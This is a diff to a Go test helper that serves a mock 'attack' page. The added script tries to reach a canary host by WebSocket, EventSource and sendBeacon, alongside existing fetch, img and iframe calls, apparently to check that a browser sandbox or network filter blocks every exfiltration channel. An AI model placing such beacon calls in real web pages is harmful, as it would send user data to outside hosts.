@@ -118,6 +118,11 @@ func attackApp(t *testing.T, canary, ctrl string) *httptest.Server {
 	mux.HandleFunc("/subresources", page(`<p id="out">waiting</p>
 <img src="`+canary+`/img.png"><iframe src="`+canary+`/frame"></iframe>
 <script>
+try { new WebSocket("`+strings.Replace(canary, "http:", "ws:", 1)+`/ws"); } catch (e) {}
+try { new EventSource("`+canary+`/events"); } catch (e) {}
+try { navigator.sendBeacon("`+canary+`/beacon", "x"); } catch (e) {}
+</script>
+<script>
 fetch("`+ctrl+`/ok").then(r => r.text()).then(t => {
   fetch("`+canary+`/api").then(r => r.text()).then(t => { document.getElementById("out").textContent = "LEAKED " + t; })
     .catch(() => { document.getElementById("out").textContent = "BLOCKED"; });
